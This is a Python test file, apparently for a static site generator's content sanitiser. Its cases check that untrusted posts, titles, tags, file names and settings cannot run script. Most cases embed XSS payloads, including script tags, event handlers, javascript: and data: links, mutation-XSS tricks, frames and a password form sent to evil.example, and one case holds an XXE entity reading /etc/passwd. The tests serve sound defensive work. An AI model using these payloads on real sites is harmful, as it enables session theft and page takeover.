"""Texts from people whom nobody knows: nothing of them runs, anywhere."""

from __future__ import annotations

from typing import Any

from hostile.cases import FEEDS, Case, html, page, post, rst

A = "content/a.md"
GOOD = {"content/z.md": post(title="Zed")}
JSON_LD = '<html><head><title>{{ article.title }}</title><script type=\'application/ld+json\'>{"headline": {{ article.title|tojson }}, "by": "{{ article.author }}"}</script></head><body class=\'{{ article.category }}\' data-x="{{ article.slug }}">{{ article.content }}</body></html>'
EVIL = '"><script>alert(1)</script><img src=x onerror=alert(1)>'


def runs(name: str, body: str, *, code: int | None = 1) -> Case:
    """A post whose text, from line 4, would run or take the page over."""
    return Case(name=name, files={**GOOD, A: post(body)}, code=code, says=(f"{A}:4:",), inert=True)


def inert(name: str, files: dict[str, str], conf: str = "", **more: Any) -> Case:
    """Names and titles that are only text wherever they stand."""
    return Case(name=name, files={**GOOD, **files}, conf=FEEDS + conf, **{"code": None, "inert": True, **more})


CASES = (
    runs("a script", "<script>alert(1)</script>"),
    runs("a script in a paragraph", "Words <script>alert(1)</script> words."),
    runs("a script in capitals", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    runs("a script that is not closed", "<script>alert(1)"),
    runs("a script within a script", "<scr<script>ipt>alert(1)</scr</script>ipt>", code=None),
    runs("a script after a slash", "<script/x>alert(1)</script>"),
    runs("a picture that fails on purpose", "<img src=x onerror=alert(1)>"),
    runs("a picture that loads", '<img alt="x" src="https://example.org/x.png" onload="alert(1)">'),
    Case(name="a handler in capitals after a slash", files={**GOOD, A: post("<img/src=\"x\"/OnErRoR=alert(1)>")}, code=None, inert=True),
    runs("a handler in capitals", '<img src="x" alt="x" OnErRoR=alert(1)>'),
    Case(name="a handler after a line end", files={**GOOD, A: post('<a href="https://example.org"\nonclick="alert(1)">x</a>')}, code=1, says=(f"{A}:4:||{A}:5:",), inert=True),
    runs("a link that runs", "[x](javascript:alert(1))"),
    runs("a link that runs, in capitals", "[x](JaVaScRiPt:alert(1))"),
    runs("a link that runs, encoded", "[x](&#106;avascript:alert(1))"),
    runs("a link that runs, with a tab", '<a href="java&#9;script:alert(1)">x</a>'),
    runs("a link that runs, with a line end", '<a href="java\nscript:alert(1)">x</a>'),
    runs("a link that runs, after a control character", '<a href="&#1;javascript:alert(1)">x</a>', code=None),
    runs("a link that runs, with a named reference", '<a href="javascript&colon;alert(1)">x</a>'),
    runs("a link of data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    runs("a link of VBScript", "[x](vbscript:msgbox(1))"),
    Case(name="a definition that runs", files={**GOOD, A: post("Words [x][1].\n\n[1]: javascript:alert(1)")}, code=1, says=(f"{A}:4:||{A}:6:",), inert=True),
    runs("a picture whose address runs", "![x](javascript:alert(1))"),
    runs("an address in angle brackets that runs", "<javascript:alert(1)>", code=None),
    runs("a picture of data that is a drawing", "![x](data:image/svg+xml;base64,PHN2Zy8+)", code=None),
    runs("an attribute that runs", '[x](https://example.org/){: onclick="alert(1)" }'),
    runs("an attribute of a heading that runs", '## Words {onmouseover=alert(1)}'),
    Case(name="an attribute of a paragraph that runs", files={**GOOD, A: post('Words.\n{: onclick="alert(1)" }')}, code=1, says=(f"{A}:4:||{A}:5:",), inert=True),
    runs("an attribute with an address that runs", '[x](https://example.org/){: href="javascript:alert(1)" }'),
    runs("a style of its own", '[x](https://example.org/){: style="position:fixed;inset:0;background:url(//evil.example/x)" }', code=None),
    runs("a style element", "<style>body { display: none }</style>"),
    runs("a style sheet of others", '<link rel="stylesheet" href="//evil.example/x.css">'),
    runs("a frame", '<iframe src="https://evil.example/"></iframe>'),
    runs("a frame with a document in it", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    runs("a frame of data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    runs("an object", '<object data="https://evil.example/x.swf"></object>'),
    runs("an embedded thing", '<embed src="javascript:alert(1)">'),
    runs("another base of all links", '<base href="https://evil.example/">'),
    runs("a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    runs("a form", '<form action="https://evil.example/"><input name="password"></form>'),
    runs("a button that runs", '<button formaction="javascript:alert(1)">x</button>'),
    runs("a field with focus", "<input autofocus onfocus=alert(1)>"),
    runs("details that open", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    runs("a film that fails", "<video><source onerror=alert(1)></video>"),
    runs("a body that loads", "<body onload=alert(1)>"),
    runs("a drawing that loads", "<svg onload=alert(1)></svg>"),
    runs("a drawing with a script", "<svg><script>alert(1)</script></svg>"),
    runs("a drawing with a link that runs", '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>'),
    runs("a drawing that animates a link", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>'),
    runs("a drawing with HTML in it", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    runs("a drawing that uses another's", '<svg><use href="data:image/svg+xml,<svg/>#x"/></svg>'),
    runs("a formula with a link that runs", '<math><mi href="javascript:alert(1)">x</mi></math>', code=None),
    runs("a title in a noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', code=None),
    runs("a style in a drawing", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', code=None),
    runs("a table in a formula", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", code=None),
    runs("a template", "<template><script>alert(1)</script></template>"),
    runs("an area of text that is not closed", "<textarea>", code=None),
    runs("plain text to the end", "<plaintext>", code=None),
    runs("an example to the end", "<xmp><script>alert(1)</script></xmp>", code=None),
    runs("a title in the text", "<title><img src=x onerror=alert(1)></title>", code=None),
    runs("a comment that ends early", "<!--><script>alert(1)</script>-->"),
    Case(name="a comment that is conditional", files={**GOOD, A: post("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->")}, code=None, inert=True),
    Case(name="an instruction", files={**GOOD, A: post("<?xml-stylesheet href='javascript:alert(1)'?>")}, code=None, inert=True),
    Case(name="a script in a footnote", files={**GOOD, A: post("Words[^1].\n\n[^1]: <script>alert(1)</script>")}, code=1, says=(f"{A}:6:",), inert=True),
    Case(name="a script in a table", files={**GOOD, A: post("| a |\n|---|\n| <img src=x onerror=alert(1)> |")}, code=1, says=(f"{A}:6:",), inert=True),
    Case(name="a script in an abbreviation", files={**GOOD, A: post(f"HTML\n\n*[HTML]: {EVIL}")}, code=None, inert=True),
    Case(name="a script in the title of a link", files={**GOOD, A: post("[x](https://example.org/ '\"><script>alert(1)</script>')")}, code=None, inert=True),
    Case(name="a script as the language of code", files={**GOOD, A: post('```"><script>alert(1)</script>\nx\n```')}, code=None, inert=True),
    Case(name="a script in the text of a picture", files={**GOOD, A: post('![x" onerror="alert(1)](https://example.org/x.png)')}, code=None, inert=True),
    Case(name="scripts in three texts and a page", files={A: post("<script>x</script>"), "content/b.md": post("<img src=x onerror=y>", title="Two"), "content/c.rst": rst(".. raw:: html\n\n   <script>x</script>", title="Three"), "content/pages/p.md": page("[x](javascript:y)")}, code=1, says=(f"{A}:4:", "content/b.md:4:", "content/c.rst", "content/pages/p.md:3:"), inert=True),
    Case(name="a script in a draft", files={**GOOD, A: post("<script>alert(1)</script>", "Status: draft")}, code=1, says=(f"{A}:5:",), inert=True),
    Case(name="a script in a summary", files={**GOOD, A: post("Words.", "Summary: <script>alert(1)</script>")}, code=1, says=(f"{A}:3:",), inert=True),
    Case(name="a link that runs in a summary", files={**GOOD, A: post("Words.", "Summary: [x](javascript:alert(1))")}, code=1, says=(f"{A}:3:",), inert=True),
    Case(name="an address that runs", files={**GOOD, A: post("Words.", "URL: javascript:alert(1)", "save_as: one.html")}, code=1, says=(f"{A}:3:",), inert=True),
    Case(name="a key of the theme that runs", files={**GOOD, A: post("Words.", "Link: javascript:alert(1)")}, code=1, says=(f"{A}:3:",), inert=True),
    Case(name="a language that breaks out", files={**GOOD, A: post("Words.", 'Lang: en"onload="alert(1)')}, code=1, says=(f"{A}:3:",), inert=True),
    # text that is only text
    inert("a title that is a script", {A: post(title=EVIL)}, has={"index.html": ("&lt;script&gt;",)}),
    inert("a title in bold", {A: post(title="A <b>bold</b> one")}, has={"index.html": ("&lt;b&gt;bold",)}),
    inert("a title with entities", {A: post(title="&lt;script&gt;alert(1)&lt;/script&gt;")}),
    inert("a title of a page", {"content/pages/p.md": page(title=EVIL)}),
    inert("tags", {A: post("Words.", f"Tags: {EVIL}, x")}),
    inert("an author", {A: post("Words.", f"Author: {EVIL}")}),
    inert("a category", {A: post("Words.", f"Category: {EVIL}")}),
    inert("the name of a folder", {'content/"><img src=x onerror=alert(1)>/a.md': post()}),
    inert("the name of a picture", {A: post('![x](<{static}/images/"><img src=x onerror=alert(1)>.png>)'), 'content/images/"><img src=x onerror=alert(1)>.png': "x"}),
    inert("a key that the theme shows", {A: post("Words.", f"Description: {EVIL}")}),
    inert("a title in JSON", {A: post(title=EVIL), "over/article.html": JSON_LD}, 'THEME_TEMPLATES_OVERRIDES = ["over"]\n'),
    inert("an author in JSON", {A: post("Words.", 'Author: "}</script><script>alert(1)</script>'), "over/article.html": JSON_LD}, 'THEME_TEMPLATES_OVERRIDES = ["over"]\n'),
    inert("everything in the theme notmyidea", {A: post("Words.", f"Tags: {EVIL}", f"Author: {EVIL}", f"Category: {EVIL}", title=EVIL)}, 'THEME = "notmyidea"\n', inert=False, has_not={"index.html": ("<img src=x", "<script>alert"), "tag/script.html": ("<script>alert",)}),
    inert("a title that ends a section of XML", {A: post(title="]]></title><script>alert(1)</script>")}),
    inert("a title in reStructuredText", {"content/a.rst": rst(title="<script>alert(1)</script>")}),
    inert("a title in HTML", {"content/a.html": html(title="&lt;script&gt;alert(1)&lt;/script&gt;")}),
    inert("typogrify and a title", {A: post(title=EVIL)}, "TYPOGRIFY = True\n"),
    # other formats
    Case(name="raw HTML in reStructuredText", files={**GOOD, "content/a.rst": rst(".. raw:: html\n\n   <script>alert(1)</script>")}, code=1, says=("content/a.rst",), inert=True),
    Case(name="a raw role in reStructuredText", files={**GOOD, "content/a.rst": rst(".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<img src=x onerror=alert(1)>`")}, code=1, says=("content/a.rst",), inert=True),
    Case(name="a link that runs in reStructuredText", files={**GOOD, "content/a.rst": rst("`x <javascript:alert(1)>`_")}, code=1, says=("content/a.rst:6:||content/a.rst",), inert=True),
    Case(name="a script in HTML", files={**GOOD, "content/a.html": html("<p>Words.</p><script>alert(1)</script>")}, code=1, says=("content/a.html",), inert=True),
    Case(name="a handler in HTML", files={**GOOD, "content/a.html": html("<p>Words.</p>\n<img src=x onerror=alert(1)>")}, code=1, says=("content/a.html:6:||content/a.html",), inert=True),
    Case(name="a body that loads in HTML", files={**GOOD, "content/a.html": "<html><head><title>One</title><meta name='date' content='2020-01-02'></head><body onload=alert(1)><p>Words.</p></body></html>"}, code=None, inert=True),
    Case(name="an author in HTML", files={**GOOD, "content/a.html": html("<p>Words.</p>", "<meta name='author' content='&lt;script&gt;alert(1)&lt;/script&gt;'>")}, code=None, inert=True),
    Case(name="an entity of XML in a drawing", files={**GOOD, A: post("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>\n\n<svg><text>&e;</text></svg>")}, code=None, inert=True, has_not={"one.html": ("root:",)}),
    Case(name="the site's name is words", files={"content/a.md": post()}, conf='SITENAME = "<script>alert(1)</script>"\n', inert=True),
    Case(
        name="a source that the settings trust",
        files={"content/a.md": post('<my-box style="position: fixed">Words.</my-box>'), "content/b.md": post("<my-box>Words.</my-box>", title="Two")},
        conf='PRESS_TRUSTED = ["a.md"]\n',
        says=("content/b.md:4: & my-box",),
        not_says=("content/a.md",),
        has={"one.html": ('<my-box style="position: fixed">Words.</my-box>',)},
        has_not={"two.html": ("<my-box",)},
    ),
    Case(name="a script in a folder that the settings trust", files={"content/sub/a.md": post("<script>alert(1)</script>")}, conf='PRESS_TRUSTED = ["sub"]\n', code=1, says=("content/sub/a.md:4: & script",)),
)  # fmt: skip
